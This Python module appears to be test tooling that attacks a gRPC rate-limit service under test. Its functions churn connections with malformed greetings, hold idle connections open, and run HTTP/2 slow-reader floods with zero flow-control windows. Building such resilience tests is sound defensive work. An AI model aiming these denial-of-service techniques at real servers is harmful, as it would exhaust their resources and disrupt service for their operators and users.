"""Attackers with many connections: opened and closed, idle, and streams that nobody reads."""

import socket
import struct
import time
from collections import Counter
from contextlib import suppress
from itertools import count, cycle

from attacks import frames
from attacks.connection import MAX_STREAMS
from attacks.victim import CHECK
from ratelimit_service._gen.ratelimit.v1.rate_limit_service_pb2 import StreamCheckLimitRequest

STREAM = "/ratelimit.v1.RateLimitService/StreamCheckLimit"
STREAMS = MAX_STREAMS
"""Streams on the connection of a slow reader: the transport envoy closes one with more."""

CHECKS_PER_SECOND = 1_000
"""Of each slow reader: a flood is another attack."""

_RESET = struct.pack("ii", 1, 0)
_BURST = 50
_UNKNOWN = StreamCheckLimitRequest(check={"api_key": "rlk_live_none", "resource": "r" * 200}).SerializeToString()
_CHECKS = frames.message(_UNKNOWN) * _BURST


def connect(address: str, number: int = 0) -> socket.socket:
    """A connection, from one of 200 addresses, so that the ports of none run out."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5, source_address=(f"127.0.1.{number % 200 + 1}", 0))


def open_and_close(address: str, until: float, total: int) -> Counter[str]:
    """Open and close TOTAL connections, evenly until then, each in one of five ways."""
    counts: Counter[str] = Counter()
    calls = frames.opening() + frames.call(1, frames.header_block(CHECK), frames.message(b""))
    greetings = cycle([b"", frames.PREFACE[:10], frames.opening(), calls, b"GET / HTTP/1.1\r\nhost: a\r\n\r\n"])
    began = time.monotonic()
    for number in range(total):
        time.sleep(max(0.0, began + (until - began) * number / total - time.monotonic()))
        if time.monotonic() > until + 30:
            counts["not opened in time"] += total - number
            break
        try:
            with connect(address, number) as connection:
                connection.sendall(next(greetings))
                if number % 2:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        except OSError:
            counts["refused"] += 1
        else:
            counts["opened"] += 1
    return counts


def idle(address: str, until: float, total: int) -> Counter[str]:
    """Open TOTAL connections in half of the time, and hold them: they send only SETTINGS, every tenth not even that."""
    held = []
    counts: Counter[str] = Counter()
    began = time.monotonic()
    for number in range(total):
        time.sleep(max(0.0, began + (until - began) / 2 * number / total - time.monotonic()))
        try:
            connection = connect(address, number)
            if number % 10:
                connection.sendall(frames.opening())
        except OSError:
            counts["refused"] += 1
        else:
            counts["held"] += 1
            held.append(connection)
    time.sleep(max(0.0, until - time.monotonic()))
    for connection in held:
        connection.close()
    return counts


def read_nothing(address: str, until: float, *, reading: bool) -> Counter[str]:
    """Send 1,000 checks a second on many streams as long as the server takes them, and let it answer none of them.

    With READING, what it sends is read, but it may send no DATA: the windows of the streams are 0. Without, nothing is
    read from the socket, so that the server may send no more than the kernel keeps.
    """
    counts: Counter[str] = Counter()
    for number in count():
        if time.monotonic() >= until:
            return counts
        try:
            with connect(address, number) as connection:
                _send(connection, min(until, time.monotonic() + 10), counts, reading=reading)
        except OSError:
            counts["closed"] += 1
            time.sleep(0.05)
    return counts


def _send(connection: socket.socket, until: float, counts: Counter[str], *, reading: bool) -> None:
    """Send checks on STREAMS streams within the windows that the server grants."""
    block = frames.header_block(STREAM)
    streams = range(1, 2 * STREAMS, 2)
    connection.sendall(frames.opening(0) if reading else frames.opening())
    connection.sendall(b"".join(frames.frame(frames.HEADERS, frames.END_HEADERS, each, block) for each in streams))
    connection.settimeout(0.02)
    windows = dict.fromkeys([0, *streams], frames.DEFAULT_WINDOW)
    reader = frames.FrameReader()
    for stream in cycle(streams):
        if time.monotonic() >= until:
            return
        if windows[0] >= len(_CHECKS) and windows[stream] >= len(_CHECKS):
            windows[0] -= len(_CHECKS)
            windows[stream] -= len(_CHECKS)
            connection.settimeout(1)
            connection.sendall(frames.frame(frames.DATA, 0, stream, _CHECKS))
            connection.settimeout(0.02)
            counts["checks"] += _BURST
            time.sleep(_BURST / CHECKS_PER_SECOND)
        elif not reading:
            time.sleep(0.05)
        else:
            with suppress(TimeoutError):
                _take(connection, reader, windows)


def _take(connection: socket.socket, reader: frames.FrameReader, windows: dict[int, int]) -> None:
    """Read what the server has sent. Raises OSError when it has closed the connection."""
    data = connection.recv(65_536)
    if not data:
        raise ConnectionResetError
    for kind, flags, stream, payload in reader.feed(data):
        if kind == frames.WINDOW and stream in windows:
            windows[stream] += int.from_bytes(payload, "big")
        elif kind == frames.SETTINGS and not flags & frames.ACK:
            connection.sendall(frames.frame(frames.SETTINGS, frames.ACK, 0))
        elif kind == frames.PING and not flags & frames.ACK:
            connection.sendall(frames.frame(frames.PING, frames.ACK, 0, payload))
        elif kind == frames.GOAWAY:
            raise ConnectionResetError
